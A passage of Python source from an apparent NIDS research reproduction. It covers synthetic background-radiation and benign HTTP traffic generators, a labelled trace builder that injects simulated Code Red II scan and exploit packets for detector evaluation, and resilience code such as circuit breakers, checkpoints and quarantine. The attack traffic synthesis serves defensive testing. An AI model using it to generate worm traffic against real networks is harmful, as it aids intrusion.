        lo, hi = self.dark_octets
        octet = (self.rng.randrange(lo, hi) if dark
                 else self.rng.randrange(2, lo))
        return f"{self.monitored_net}{octet}"

    def _random_source(self) -> str:
        return (f"{self.rng.randrange(1, 224)}.{self.rng.randrange(256)}."
                f"{self.rng.randrange(256)}.{self.rng.randrange(1, 255)}")

    # -- components ----------------------------------------------------------

    def backscatter(self, count: int, base_time: float = 0.0) -> list[Packet]:
        """SYN-ACK/RST replies from flood victims to our (spoofed) space."""
        out = []
        for i in range(count):
            flags = self.rng.choice((TCP_SYN | TCP_ACK, TCP_RST,
                                     TCP_RST | TCP_ACK))
            pkt = tcp_packet(
                self._random_source(), self._monitored_addr(dark=self.rng.random() < 0.6),
                sport=self.rng.choice((80, 443, 53, 6667)),
                dport=self.rng.randrange(1024, 65535),
                flags=flags, seq=self.rng.randrange(1 << 32),
                timestamp=base_time + i * self.rng.uniform(0.01, 0.5),
            )
            out.append(pkt)
        return out

    def worm_residue(self, sources: int, base_time: float = 0.0) -> list[Packet]:
        """Low-volume probes from many half-dead worm hosts: each source
        sends 1-3 SYNs then disappears (below any sane scan threshold)."""
        out = []
        t = base_time
        for _ in range(sources):
            src = self._random_source()
            port = self.rng.choice((80, 445, 1434, 135))
            for _ in range(self.rng.randrange(1, 4)):
                t += self.rng.uniform(0.05, 2.0)
                out.append(tcp_packet(
                    src, self._monitored_addr(dark=self.rng.random() < 0.7),
                    sport=self.rng.randrange(1024, 65535), dport=port,
                    flags=TCP_SYN, timestamp=t,
                ))
        return out

    def misconfiguration(self, count: int, base_time: float = 0.0) -> list[Packet]:
        """One confused host repeatedly querying a single wrong address —
        repetition to ONE dark address must not trip the scan counter."""
        src = self._random_source()
        target = self._monitored_addr(dark=True)
        out = []
        for i in range(count):
            out.append(udp_packet(
                src, target, sport=self.rng.randrange(1024, 65535),
                dport=self.rng.choice((53, 123)),
                payload=bytes(self.rng.randrange(256) for _ in range(24)),
                timestamp=base_time + i * 7.5,
            ))
        return out

    def mixed(self, volume: int, base_time: float = 0.0) -> list[Packet]:
        """A representative radiation mix, sorted by timestamp."""
        packets = (
            self.backscatter(volume // 2, base_time)
            + self.worm_residue(volume // 4, base_time)
            + self.misconfiguration(max(4, volume // 10), base_time)
        )
        packets.sort(key=lambda p: p.timestamp)
        return packets

"""Evaluation trace assembly: the Table 3 traces and the §5.4 month.

Table 3 tests 12 five-minute traces from two class-B production networks,
each with >200,000 packets and a known number of Code Red II instances.
:func:`build_table3_trace` synthesizes a labelled equivalent: a benign mix
sized to the packet target with CRII infection attempts (scan burst +
exploit conversation) injected at known times.  The ground-truth instance
count is carried alongside so the benchmark can score the NIDS exactly the
way the paper does ("Before evaluation, we noted the correct number of
instances of Code Red II within each capture").
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from ..engines.codered import CodeRedHost
from ..net.packet import Packet
from .mix import BenignMixGenerator
from .radiation import RadiationGenerator

__all__ = ["LabeledTrace", "build_table3_trace", "TABLE3_INSTANCE_COUNTS",
           "month_of_traffic"]

# Ground-truth CRII instance counts for the 12 traces.  The paper's Table 3
# lists per-trace counts for two class-B networks; we use a fixed spread of
# the same flavor (small counts, a couple of quiet traces).
TABLE3_INSTANCE_COUNTS = [3, 1, 4, 2, 0, 5, 2, 1, 3, 0, 6, 2]


@dataclass
class LabeledTrace:
    """A synthesized capture with ground truth."""

    name: str
    packets: list[Packet]
    crii_instances: int
    crii_sources: list[str] = field(default_factory=list)
    duration: float = 300.0

    @property
    def packet_count(self) -> int:
        return len(self.packets)


def build_table3_trace(
    index: int,
    target_packets: int = 200_000,
    seed: int = 1000,
    duration: float = 300.0,
    radiation_packets: int | None = None,
) -> LabeledTrace:
    """Synthesize trace ``index`` (0-11) of the Table 3 experiment.

    The benign mix is generated first and sized to the packet target;
    background radiation [15] and CRII infection attempts (a scan burst
    followed by the exploit conversation against a live web server
    address) are then spliced in at deterministic offsets and the whole
    trace re-sorted by timestamp.
    """
    if not 0 <= index < len(TABLE3_INSTANCE_COUNTS):
        raise IndexError(f"trace index out of range: {index}")
    rng = random.Random(seed + index)
    crii_count = TABLE3_INSTANCE_COUNTS[index]

    # Estimate conversations needed: the mix averages ~20 packets per
    # conversation; generate, then trim/extend to the target.
    gen = BenignMixGenerator(seed=seed * 31 + index,
                             mean_gap=duration / (target_packets / 18.0))
    packets = gen.generate_packets(max(1, target_packets // 18))
    while len(packets) < target_packets:
        packets.extend(gen.generate_packets(max(1, (target_packets - len(packets)) // 18)))
    packets = packets[:target_packets]

    # Production traces carry background radiation (backscatter, worm
    # residue, misconfiguration — [15]); mix a realistic drizzle in.
    if radiation_packets is None:
        radiation_packets = max(50, target_packets // 200)
    radiation = RadiationGenerator(seed=seed * 7 + index,
                                   monitored_net="10.10.0.")
    packets.extend(radiation.mixed(radiation_packets,
                                   base_time=rng.uniform(0.0, duration / 2)))

    sources: list[str] = []
    for k in range(crii_count):
        src = f"10.{30 + index}.{rng.randrange(1, 254)}.{rng.randrange(1, 254)}"
        victim = f"10.10.0.{rng.randrange(2, 250)}"
        worm = CodeRedHost(ip=src, seed=seed + 97 * k)
        t0 = rng.uniform(5.0, duration - 10.0)
        packets.extend(worm.scan_packets(count=40, base_time=t0))
        packets.extend(worm.exploit_packets(victim, base_time=t0 + 1.0))
        sources.append(src)

    packets.sort(key=lambda p: p.timestamp)
    return LabeledTrace(
        name=f"trace-{index:02d}",
        packets=packets,
        crii_instances=crii_count,
        crii_sources=sources,
        duration=duration,
    )


def month_of_traffic(
    seed: int = 7,
    payload_bytes: int = 32 * 1024 * 1024,
) -> tuple[list[Packet], int]:
    """The §5.4 benign capture, scaled.

    The paper analyzed 566 MB from two class-C networks; ``payload_bytes``
    scales the volume (the default keeps CI runtimes sane — pass the full
    566 MB for a faithful run).  Returns ``(packets, payload_bytes)``.
    """
    gen = BenignMixGenerator(seed=seed)
    packets = gen.generate_bytes(payload_bytes)
    return packets, gen.stats.payload_bytes

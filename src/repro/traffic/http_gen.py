"""Benign HTTP conversation synthesis.

The false-positive experiment (§5.4) runs "a month's worth of traffic …
most of the packets in this trace are legitimate web traffic" through the
full analysis path with classification disabled.  These generators produce
protocol-correct requests and responses with realistic variety: HTML,
text, and *binary* bodies (images, compressed blobs) — the binary bodies
are the hard case, because they reach the disassembler and must still not
match any template.
"""

from __future__ import annotations

import random

__all__ = ["HttpTrafficModel"]

_PATH_WORDS = ["index", "news", "about", "products", "search", "images",
               "docs", "api", "login", "static", "archive", "blog", "faq"]
_EXTS = [".html", ".htm", "/", ".php", ".asp", ".cgi", ".css", ".js"]
_IMG_EXTS = [".gif", ".jpg", ".png", ".ico"]
_HOSTS = ["www.example.com", "portal.campus.edu", "mirror.example.org",
          "news.example.net", "intranet.corp.example"]
_AGENTS = [
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)",
    "Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.7.12)",
    "Wget/1.9.1",
    "Lynx/2.8.5rel.1",
]

_WORDS = ("the quick brown fox jumps over lazy dog network intrusion "
          "detection semantic analysis template campus department course "
          "schedule library proxy mirror download release notes server "
          "status report archive weather sports market").split()


class HttpTrafficModel:
    """Generates benign request/response byte pairs."""

    def __init__(self, seed: int = 0) -> None:
        self.rng = random.Random(seed)

    # -- requests ----------------------------------------------------------

    def request(self) -> bytes:
        rng = self.rng
        kind = rng.random()
        if kind < 0.8:
            return self._get()
        if kind < 0.95:
            return self._post()
        return self._head()

    def _path(self, image: bool = False) -> str:
        parts = [rng_word for rng_word in
                 self.rng.sample(_PATH_WORDS, self.rng.randrange(1, 3))]
        ext = self.rng.choice(_IMG_EXTS if image else _EXTS)
        path = "/" + "/".join(parts) + ext
        if not image and self.rng.random() < 0.3:
            path += f"?q={self.rng.choice(_WORDS)}&page={self.rng.randrange(40)}"
        return path

    def _headers(self) -> str:
        rng = self.rng
        lines = [
            f"Host: {rng.choice(_HOSTS)}",
            f"User-Agent: {rng.choice(_AGENTS)}",
            "Accept: */*",
        ]
        if rng.random() < 0.4:
            lines.append("Connection: keep-alive")
        if rng.random() < 0.2:
            lines.append(f"Referer: http://{rng.choice(_HOSTS)}/")
        return "\r\n".join(lines)

    def _get(self) -> bytes:
        image = self.rng.random() < 0.35
        return (f"GET {self._path(image)} HTTP/1.{self.rng.randrange(2)}\r\n"
                f"{self._headers()}\r\n\r\n").encode()

    def _head(self) -> bytes:
        return (f"HEAD {self._path()} HTTP/1.1\r\n"
                f"{self._headers()}\r\n\r\n").encode()

    def _post(self) -> bytes:
        rng = self.rng
        fields = "&".join(
            f"{rng.choice(_WORDS)}={rng.choice(_WORDS)}{rng.randrange(100)}"
            for _ in range(rng.randrange(2, 6))
        )
        body = fields.encode()
        return (f"POST {self._path()} HTTP/1.0\r\n{self._headers()}\r\n"
                f"Content-Type: application/x-www-form-urlencoded\r\n"
                f"Content-Length: {len(body)}\r\n\r\n").encode() + body

    # -- responses ----------------------------------------------------------

    def response(self, max_body: int = 8192) -> bytes:
        rng = self.rng
        kind = rng.random()
        if kind < 0.55:
            body = self._html_body(rng.randrange(256, max_body))
            ctype = "text/html"
        elif kind < 0.8:
            body = self._binary_body(rng.randrange(512, max_body))
            ctype = rng.choice(["image/gif", "image/jpeg", "application/zip"])
        else:
            body = self._text_body(rng.randrange(128, max_body // 2))
            ctype = "text/plain"
        head = (f"HTTP/1.1 200 OK\r\nServer: Apache/1.3.27 (Unix)\r\n"
                f"Content-Type: {ctype}\r\nContent-Length: {len(body)}\r\n\r\n")
        return head.encode() + body

    def _html_body(self, size: int) -> bytes:
        rng = self.rng
        out = ["<html><head><title>", rng.choice(_WORDS), "</title></head><body>"]
        while sum(len(s) for s in out) < size:
            out.append(f"<p>{' '.join(rng.choice(_WORDS) for _ in range(12))}</p>\n")
        out.append("</body></html>")
        return "".join(out).encode()[:size]

    def _text_body(self, size: int) -> bytes:
        rng = self.rng
        words = " ".join(rng.choice(_WORDS) for _ in range(size // 5 + 1))
        return words.encode()[:size]

    def _binary_body(self, size: int) -> bytes:
        """Compressed-looking high-entropy bytes with a recognizable magic
        header — the worst case for the extraction stage."""
        rng = self.rng
        magic = rng.choice([b"GIF89a", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n",
                            b"PK\x03\x04"])
        return magic + rng.randbytes(max(0, size - len(magic)))

"""Per-shard circuit breaker for worker self-healing.

The parallel engine's original failure policy was one-shot: the first
dead worker flipped the whole engine to the serial path forever.  Safe,
but it means a single transient fault (an OOM kill, a crashed child)
permanently costs all parallelism for the rest of a long capture.  The
breaker replaces that with the classic three-state machine, one breaker
per shard so a crash-looping flow cannot take down its neighbours:

- **closed** — work flows to the shard's pool; each pool breakage counts
  one consecutive failure, any successful result resets the count;
- **open** — after ``threshold`` consecutive failures the shard stops
  receiving work (payloads degrade to the in-process serial path) for a
  capped exponential backoff;
- **half-open** — once the backoff elapses, exactly one probe payload is
  allowed through the rebuilt pool: success re-closes the breaker,
  failure reopens it with doubled backoff.

The breaker itself is pure state: no pools, no metrics, an injectable
clock — so its transitions are unit-testable and the chaos harness can
drive it deterministically (``backoff_base=0`` makes probes immediate).
"""

from __future__ import annotations

import time

__all__ = ["CLOSED", "HALF_OPEN", "OPEN", "CircuitBreaker"]

CLOSED = "closed"
OPEN = "open"
HALF_OPEN = "half-open"


class CircuitBreaker:
    """Consecutive-failure breaker with capped exponential backoff."""

    def __init__(self, threshold: int = 3, backoff_base: float = 0.5,
                 backoff_cap: float = 30.0, clock=time.monotonic) -> None:
        if threshold < 1:
            raise ValueError("breaker threshold must be >= 1")
        self.threshold = threshold
        self.backoff_base = backoff_base
        self.backoff_cap = backoff_cap
        self.clock = clock
        self.state = CLOSED
        self.failures = 0        # consecutive, since the last success
        self.trips = 0           # times the breaker has opened
        self.backoff = backoff_base
        self.opened_at = 0.0
        #: a probe has been dispatched and its outcome is still unknown;
        #: the engine must not send more work until it resolves.
        self.probe_pending = False

    @property
    def is_open(self) -> bool:
        return self.state == OPEN

    def allow(self) -> bool:
        """May the next payload go to this shard's pool?

        Transitions ``open`` → ``half-open`` when the backoff has
        elapsed; the call that observes that transition owns the probe.
        """
        if self.state == CLOSED:
            return True
        if self.state == OPEN:
            if self.clock() - self.opened_at >= self.backoff:
                self.state = HALF_OPEN
                self.probe_pending = False
                return True
            return False
        # half-open: one probe in flight at a time.
        return not self.probe_pending

    def begin_probe(self) -> None:
        self.probe_pending = True

    def record_failure(self) -> None:
        """One pool-breakage event (not one payload — a single crash that
        strands several in-flight payloads is still one failure)."""
        self.failures += 1
        if self.state == HALF_OPEN:
            # Failed probe: reopen and wait longer before the next one.
            self.backoff = min(self.backoff_cap, max(
                self.backoff * 2, self.backoff_base))
            self._open()
        elif self.state == CLOSED and self.failures >= self.threshold:
            self.backoff = self.backoff_base
            self._open()

    def record_success(self) -> None:
        self.failures = 0
        self.probe_pending = False
        if self.state != CLOSED:
            self.state = CLOSED
            self.backoff = self.backoff_base

    def _open(self) -> None:
        self.state = OPEN
        self.trips += 1
        self.opened_at = self.clock()
        self.probe_pending = False

"""Atomic, versioned, CRC'd checkpoints of sensor progress.

A checkpoint captures everything the daemon needs to resume after a
crash: the capture read position, per-source classifier state, the
shed/ingest accounting counters, the alert sequence watermark, and the
template ``library_digest()`` (so a template change invalidates the
resume — stale state must not silently shape new detections).

Writes are crash-atomic: serialize to ``checkpoint.bin.tmp``, flush,
``os.fsync``, then ``os.rename`` over ``checkpoint.bin``.  A reader
therefore only ever observes the previous complete checkpoint or the
new one, never a torn mix.  The payload is framed with a magic, a
format version, and a CRC so a corrupt file is detected and treated as
"no checkpoint" rather than trusted.
"""

from __future__ import annotations

import os
import pickle
import struct
import time
import zlib
from pathlib import Path
from typing import Any, Callable

from repro.obs.registry import MetricsRegistry

_MAGIC = b"RCKP"
_VERSION = 1
_HEADER = struct.Struct("<4sHII")  # magic, version, payload length, crc32


class CheckpointStore:
    """Write-temp → fsync → rename checkpoint persistence."""

    FILENAME = "checkpoint.bin"

    def __init__(
        self,
        directory: str | os.PathLike[str],
        *,
        registry: MetricsRegistry | None = None,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        self.directory = Path(directory)
        self.directory.mkdir(parents=True, exist_ok=True)
        self.path = self.directory / self.FILENAME
        self.saves = 0
        self.load_failures = 0
        self._clock = clock
        self._write_seconds = None
        if registry is not None:
            self._write_seconds = registry.histogram(
                "repro_checkpoint_write_seconds",
                help="Wall seconds per atomic checkpoint write "
                     "(serialize+fsync+rename).", unit="seconds",
            )
        # Chaos seam: invoked after the temp file is durable but before
        # the rename publishes it — the classic "crash mid-checkpoint"
        # point.  Raising here leaves the previous checkpoint intact.
        self.pre_rename: Callable[[Path], None] | None = None

    def save(self, payload: dict[str, Any]) -> Path:
        started = self._clock()
        blob = pickle.dumps(payload, protocol=pickle.HIGHEST_PROTOCOL)
        frame = _HEADER.pack(_MAGIC, _VERSION, len(blob), zlib.crc32(blob)) + blob
        tmp = self.path.with_suffix(".bin.tmp")
        with open(tmp, "wb") as fh:
            fh.write(frame)
            fh.flush()
            os.fsync(fh.fileno())
        if self.pre_rename is not None:
            self.pre_rename(tmp)
        os.replace(tmp, self.path)
        self._fsync_directory()
        self.saves += 1
        if self._write_seconds is not None:
            self._write_seconds.observe(self._clock() - started)
        return self.path

    def load(self) -> dict[str, Any] | None:
        """Return the checkpoint payload, or None if absent/corrupt."""

        try:
            data = self.path.read_bytes()
        except FileNotFoundError:
            return None
        if len(data) < _HEADER.size:
            self.load_failures += 1
            return None
        magic, version, length, crc = _HEADER.unpack_from(data)
        blob = data[_HEADER.size :]
        if (
            magic != _MAGIC
            or version != _VERSION
            or len(blob) != length
            or zlib.crc32(blob) != crc
        ):
            self.load_failures += 1
            return None
        try:
            payload = pickle.loads(blob)
        except Exception:
            self.load_failures += 1
            return None
        if not isinstance(payload, dict):
            self.load_failures += 1
            return None
        return payload

    def clear(self) -> None:
        try:
            self.path.unlink()
        except FileNotFoundError:
            pass

    def _fsync_directory(self) -> None:
        # Make the rename itself durable; not all platforms allow
        # opening a directory, so degrade silently where unsupported.
        try:
            fd = os.open(self.directory, os.O_RDONLY)
        except OSError:
            return
        try:
            os.fsync(fd)
        except OSError:
            pass
        finally:
            os.close(fd)

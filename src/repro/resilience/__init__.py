"""repro.resilience — fault containment for a sensor that must not die.

A NIDS parses attacker-controlled bytes for a living, so "crash on
malformed input" is a remotely triggerable blind spot.  This package is
the containment layer threaded through the pipeline (see
docs/robustness.md):

- :mod:`repro.resilience.firewall` — per-stage fault counting and
  degraded-mode alerting glue (the pipeline catches, the firewall
  records);
- :mod:`repro.resilience.quarantine` — offending inputs preserved to a
  replayable pcap + JSONL sidecar;
- :mod:`repro.resilience.deadline` — deterministic per-payload analysis
  budgets (instruction units, not wall clock);
- :mod:`repro.resilience.breaker` — per-shard circuit breakers behind
  the parallel engine's worker self-healing;
- :mod:`repro.resilience.shedder` — bounded ingestion rings with
  capacity-aware, always-counted load shedding (the daemon's admission
  buffer);
- :mod:`repro.resilience.chaos` — seeded fault injection proving all of
  the above;
- :mod:`repro.resilience.journal` / :mod:`repro.resilience.checkpoint` /
  :mod:`repro.resilience.delivery` — the crash-safety layer (write-ahead
  alert journal, atomic progress checkpoints, effectively-once
  delivery), see docs/operations.md "Crash recovery & durability";
- :mod:`repro.resilience.recovery` — the crash/restart orchestration the
  differential harness and the scenario runner share.
"""

from .breaker import CLOSED, HALF_OPEN, OPEN, CircuitBreaker
from .chaos import (
    FaultInjector,
    InjectedFault,
    SimulatedCrash,
    build_stall_payload,
    truncate_capture,
)
from .checkpoint import CheckpointStore
from .deadline import UNITS_PER_MS, Deadline
from .delivery import DurableDelivery
from .firewall import (
    CONTAINED_STAGES,
    DEADLINE_TEMPLATE,
    DEGRADED_SEVERITY,
    FAULT_TEMPLATE,
    StageFirewall,
)
from .journal import AlertJournal, JournalRecovery, tear_journal_tail
from .quarantine import QuarantineWriter
from .shedder import SHED_POLICIES, BoundedRing

__all__ = [
    "AlertJournal",
    "BoundedRing",
    "SHED_POLICIES",
    "CLOSED",
    "CONTAINED_STAGES",
    "CheckpointStore",
    "DEADLINE_TEMPLATE",
    "DEGRADED_SEVERITY",
    "DurableDelivery",
    "FAULT_TEMPLATE",
    "HALF_OPEN",
    "JournalRecovery",
    "OPEN",
    "SimulatedCrash",
    "UNITS_PER_MS",
    "CircuitBreaker",
    "Deadline",
    "FaultInjector",
    "InjectedFault",
    "QuarantineWriter",
    "StageFirewall",
    "build_stall_payload",
    "tear_journal_tail",
    "truncate_capture",
]

"""repro.resilience — fault containment for a sensor that must not die.

A NIDS parses attacker-controlled bytes for a living, so "crash on
malformed input" is a remotely triggerable blind spot.  This package is
the containment layer threaded through the pipeline (see
docs/robustness.md):

- :mod:`repro.resilience.firewall` — per-stage fault counting and
  degraded-mode alerting glue (the pipeline catches, the firewall
  records);
- :mod:`repro.resilience.quarantine` — offending inputs preserved to a
  replayable pcap + JSONL sidecar;
- :mod:`repro.resilience.deadline` — deterministic per-payload analysis
  budgets (instruction units, not wall clock);
- :mod:`repro.resilience.breaker` — per-shard circuit breakers behind
  the parallel engine's worker self-healing;
- :mod:`repro.resilience.shedder` — bounded ingestion rings with
  capacity-aware, always-counted load shedding (the daemon's admission
  buffer);
- :mod:`repro.resilience.chaos` — seeded fault injection proving all of
  the above.
"""

from .breaker import CLOSED, HALF_OPEN, OPEN, CircuitBreaker
from .chaos import (
    FaultInjector,
    InjectedFault,
    build_stall_payload,
    truncate_capture,
)
from .deadline import UNITS_PER_MS, Deadline
from .firewall import (
    CONTAINED_STAGES,
    DEADLINE_TEMPLATE,
    DEGRADED_SEVERITY,
    FAULT_TEMPLATE,
    StageFirewall,
)
from .quarantine import QuarantineWriter
from .shedder import SHED_POLICIES, BoundedRing

__all__ = [
    "BoundedRing",
    "SHED_POLICIES",
    "CLOSED",
    "CONTAINED_STAGES",
    "DEADLINE_TEMPLATE",
    "DEGRADED_SEVERITY",
    "FAULT_TEMPLATE",
    "HALF_OPEN",
    "OPEN",
    "UNITS_PER_MS",
    "CircuitBreaker",
    "Deadline",
    "FaultInjector",
    "InjectedFault",
    "QuarantineWriter",
    "StageFirewall",
    "build_stall_payload",
    "truncate_capture",
]

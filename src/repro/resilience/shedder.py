"""Bounded ingestion with capacity-aware, always-counted load shedding.

A sensor that silently drops packets under load is worse than one that
drops none slowly: the operator believes the link is clean when the
sensor simply never looked.  :class:`BoundedRing` is the admission
buffer between a capture source and the analysis pipeline — a fixed-
capacity ring whose overflow behaviour is an explicit, *counted* policy,
never an accident:

- ``"newest"`` — a full ring sheds the arriving packet (tail drop);
- ``"oldest"`` — a full ring evicts its oldest queued packet to admit
  the new one (the freshest traffic is the most actionable);
- ``"block"`` — nothing is shed; :meth:`offer` refuses the packet and
  the caller applies backpressure to the source (counted as a
  backpressure wait, not a shed).

Every shed increments ``repro_shed_packets_total`` (labelled by policy),
so the accounting invariant the soak harness asserts —
``ingested == processed + shed + queued`` — holds by construction.
This interplays with the rest of the resilience layer: shedding bounds
*queueing* delay the same way analysis deadlines bound *per-payload*
work and breakers bound *worker* failures; all three are loud.
"""

from __future__ import annotations

import threading
from collections import deque
from typing import Iterable

from ..obs import MetricsRegistry

__all__ = ["BoundedRing", "SpanRing", "SHED_POLICIES"]

SHED_POLICIES = ("newest", "oldest", "block")


class SpanRing:
    """FIFO byte-span allocator over a fixed circular capacity.

    This is the allocation arithmetic behind the fleet's shared-memory
    packet ring (:mod:`repro.nids.shm`): the dispatcher bump-allocates
    one contiguous span per dispatch batch, workers consume, and spans
    retire strictly in allocation order when their batch is folded.  A
    span that would straddle the wrap point is placed at offset 0
    instead; the skipped tail gap is accounted against the span and
    freed with it, so ``used_bytes`` never lies about what a new span
    can claim.  Like :class:`BoundedRing`, overflow is an explicit
    verdict — :meth:`alloc` returns ``None`` and the caller applies its
    counted fallback ladder — never a silent drop.

    Single-threaded by design: the fleet dispatcher is the only
    producer, and retirement happens on the dispatcher thread when a
    batch result folds.
    """

    def __init__(self, capacity: int) -> None:
        if capacity <= 0:
            raise ValueError("span ring capacity must be positive")
        self.capacity = capacity
        #: live spans in allocation order: [key, offset, size, waste]
        #: where ``waste`` is the tail gap skipped to place this span
        #: at offset 0 (zero for non-wrapping allocations).
        self._spans: deque = deque()
        self._head = 0  # next write offset
        self._tail = 0  # oldest live byte
        self._used = 0  # spans + wrap waste
        self.high_watermark = 0

    def alloc(self, key, size: int) -> int | None:
        """Claim ``size`` contiguous bytes for ``key``; returns the span
        offset, or ``None`` when no contiguous room exists (ring full or
        fragmented by the wrap)."""
        if size <= 0:
            raise ValueError("span size must be positive")
        if self._used == 0:
            self._head = self._tail = 0
        if size > self.capacity - self._used:
            return None
        waste = 0
        if self._head >= self._tail and self._used < self.capacity:
            room_end = self.capacity - self._head
            if size > room_end:
                if size > self._tail:
                    return None  # fits overall, but not contiguously
                waste = room_end
                self._head = 0
        elif size > self._tail - self._head:
            return None
        offset = self._head
        self._head = (offset + size) % self.capacity
        self._used += size + waste
        self._spans.append([key, offset, size, waste])
        if self._used > self.high_watermark:
            self.high_watermark = self._used
        return offset

    def retire_if(self, key) -> bool:
        """Free the oldest span when it belongs to ``key``; ``False``
        when it does not (the batch never got a span — e.g. it rode the
        pickle fallback — or the ring was reset under it)."""
        if not self._spans or self._spans[0][0] != key:
            return False
        _key, offset, size, waste = self._spans.popleft()
        self._tail = (offset + size) % self.capacity
        self._used -= size + waste
        return True

    def reset(self) -> None:
        """Drop every live span (shard restart: in-flight descriptors
        are void and their bytes will be rewritten)."""
        self._spans.clear()
        self._head = self._tail = 0
        self._used = 0

    def live_spans(self) -> list:
        """``(key, offset, size)`` of every live span, oldest first."""
        return [(key, offset, size) for key, offset, size, _ in self._spans]

    @property
    def used_bytes(self) -> int:
        return self._used

    @property
    def free_bytes(self) -> int:
        return self.capacity - self._used

    def __len__(self) -> int:
        return len(self._spans)


class BoundedRing:
    """Fixed-capacity admission ring between ingestion and analysis.

    Thread-safe (one lock around the deque) so a later threaded ingest
    loop can share it with the processing loop; in the cooperative
    daemon both run on one thread and the lock is uncontended.
    """

    def __init__(self, capacity: int, *, policy: str = "newest",
                 registry: MetricsRegistry | None = None) -> None:
        if capacity <= 0:
            raise ValueError("ring capacity must be positive")
        if policy not in SHED_POLICIES:
            raise ValueError(
                f"unknown shed policy {policy!r}; expected one of "
                f"{SHED_POLICIES}")
        self.capacity = capacity
        self.policy = policy
        self._items: deque = deque()
        self._lock = threading.Lock()
        registry = registry if registry is not None else MetricsRegistry()
        self._shed = registry.counter(
            "repro_shed_packets_total", labels={"policy": policy},
            help="Packets shed by the admission ring (never silent).",
            unit="packets")
        self._accepted = registry.counter(
            "repro_ring_accepted_total",
            help="Packets admitted into the ingestion ring.",
            unit="packets")
        self._backpressure = registry.counter(
            "repro_backpressure_waits_total",
            help="Ring-full refusals under the 'block' policy (the "
                 "source was paused instead of packets shed).",
            unit="refusals")
        self._occupancy = registry.gauge(
            "repro_ring_occupancy",
            help="Packets currently queued in the ingestion ring.",
            unit="packets")
        self._high_watermark = registry.gauge(
            "repro_ring_high_watermark",
            help="Peak ring occupancy observed.", unit="packets")

    # -- producer side -------------------------------------------------------

    def offer(self, item) -> bool:
        """Admit one item; ``False`` means it was NOT queued — shed
        (counted) under a drop policy, refused (backpressure, counted)
        under ``"block"``.  Under ``"oldest"`` the *arriving* item is
        always admitted and the return value stays ``True``; the evicted
        victim is what got shed."""
        with self._lock:
            if len(self._items) >= self.capacity:
                if self.policy == "block":
                    self._backpressure.inc()
                    return False
                if self.policy == "newest":
                    self._shed.inc()
                    return False
                # "oldest": evict the stalest queued item, admit the new.
                self._items.popleft()
                self._shed.inc()
            self._items.append(item)
            n = len(self._items)
            self._accepted.inc()
            self._occupancy.value = n
            if n > self._high_watermark.value:
                self._high_watermark.value = n
            return True

    def offer_all(self, items: Iterable) -> int:
        """Offer each item; returns how many were admitted."""
        return sum(1 for item in items if self.offer(item))

    # -- consumer side -------------------------------------------------------

    def take(self):
        """Oldest queued item, or ``None`` when the ring is empty."""
        with self._lock:
            if not self._items:
                return None
            item = self._items.popleft()
            self._occupancy.value = len(self._items)
            return item

    def peek(self):
        """Oldest queued item without consuming it (``None`` if empty).
        The daemon's checkpointer uses this to find the resume cursor —
        the capture offset of the oldest not-yet-processed packet."""
        with self._lock:
            return self._items[0] if self._items else None

    def restore_counters(self, *, shed: int = 0, accepted: int = 0,
                         backpressure: int = 0) -> None:
        """Re-apply pre-crash counter values on a resumed daemon, so the
        ``ingested == processed + shed + queued`` identity spans the
        restart boundary.  Counters are monotonic — this must run once,
        on a freshly built ring."""
        if self.shed_total or self.accepted_total or self.backpressure_total:
            raise RuntimeError("restore_counters on a ring already in use")
        self._shed.inc(shed)
        self._accepted.inc(accepted)
        self._backpressure.inc(backpressure)

    def __len__(self) -> int:
        return len(self._items)

    @property
    def shed_total(self) -> int:
        return self._shed.value

    @property
    def accepted_total(self) -> int:
        return self._accepted.value

    @property
    def backpressure_total(self) -> int:
        return self._backpressure.value

    @property
    def full(self) -> bool:
        return len(self._items) >= self.capacity

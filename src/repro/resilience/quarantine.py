"""Crash quarantine: preserve what hurt us, then move on.

When the stage firewall contains a fault, the offending input must not
simply vanish — an operator (or an analyst chasing a crafted
detector-evasion payload) needs the exact bytes to reproduce the
failure offline.  :class:`QuarantineWriter` appends each offender to a
standard pcap (openable in tcpdump/Wireshark, replayable through
``repro-sensor``) plus a JSON-Lines sidecar (``<path>.meta.jsonl``)
recording *why* each record is there.

Failure-proof by construction: quarantine runs inside the fault path,
so its own errors are swallowed and counted (``write_errors``) — a full
disk must not turn containment into a crash.
"""

from __future__ import annotations

import json
from pathlib import Path

from ..net.layers import Ipv4
from ..net.packet import Packet
from ..net.pcap import PcapWriter

__all__ = ["QuarantineWriter"]

#: Synthetic-packet payload cap: an IPv4 total length is 16 bits, so a
#: reassembled stream payload larger than this is truncated on write
#: (the sidecar records the original length).
_MAX_SYNTH_PAYLOAD = 65000


class QuarantineWriter:
    """Appends quarantined packets/payloads to a pcap + JSONL sidecar.

    Files are opened lazily on the first record, so configuring a
    quarantine path costs nothing on a clean run.
    """

    def __init__(self, path: str | Path) -> None:
        self.path = Path(path)
        self.meta_path = self.path.with_name(self.path.name + ".meta.jsonl")
        self.written = 0
        self.write_errors = 0
        self._pcap: PcapWriter | None = None
        self._meta = None

    # -- recording ----------------------------------------------------------

    def record(self, reason: str, stage: str, pkt: Packet | None = None,
               payload: bytes | None = None, detail: str = "") -> None:
        """Quarantine one offender.

        ``pkt`` is the triggering packet when one exists; ``payload`` is
        the analyzed byte string when the fault happened past reassembly
        (the stream payload differs from any single packet).  Either or
        both may be given; at least one should be.
        """
        try:
            record_pkt = pkt
            truncated_from = None
            if record_pkt is None or (payload is not None
                                      and payload != record_pkt.payload):
                record_pkt, truncated_from = self._synthesize(pkt, payload)
            self._open()
            self._pcap.write(record_pkt)
            entry = {
                "index": self.written,
                "timestamp": record_pkt.timestamp,
                "reason": reason,
                "stage": stage,
                "source": record_pkt.src or "?",
                "destination": record_pkt.dst or "?",
                "payload_len": len(payload if payload is not None
                                   else record_pkt.payload),
                "detail": detail,
            }
            if truncated_from is not None:
                entry["truncated_from"] = truncated_from
            self._meta.write(json.dumps(entry) + "\n")
            self._meta.flush()
            self.written += 1
        except Exception:
            # Quarantine is best-effort evidence collection inside the
            # fault path; its own failure must never propagate.
            self.write_errors += 1

    def _synthesize(self, pkt: Packet | None,
                    payload: bytes | None) -> tuple[Packet, int | None]:
        """A writable packet carrying ``payload`` (attribution copied
        from ``pkt`` when available)."""
        data = payload if payload is not None else b""
        truncated_from = None
